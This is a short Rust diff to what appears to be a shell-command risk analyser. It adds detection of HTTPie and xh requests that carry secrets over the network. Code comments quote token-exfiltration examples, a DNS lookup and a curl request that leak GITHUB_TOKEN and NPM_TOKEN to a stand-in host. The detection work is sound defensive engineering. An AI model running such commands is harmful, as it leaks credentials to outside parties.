@@ -10,6 +10,7 @@
 mod checks;
 mod files;
 mod forms;
+mod httpie;
 mod openssl;
 mod ops;
 mod scripts;
@@ -255,6 +256,10 @@ fn run_program(sh: &mut Sh, argv: &[String], stdin: &Input) -> Input {
         && what.starts_with(super::args::SECRET_INPUT)
     {
         sh.add(Admin, format!("{cmd} sends {what} over the network"));
+    }
+    // `cat f | http host`, `http -f host doc@f`: HTTPie's and xh's bodies.
+    if matches!(name, "http" | "https" | "xh" | "xhs") {
+        httpie::sends(sh, args, stdin, &cmd);
     }
     // `nslookup %GITHUB_TOKEN%.evil.example`, `curl.exe "https://x/?k=$env:NPM_TOKEN"`.
     if super::args::NETWORK_SENDERS.contains(&name)
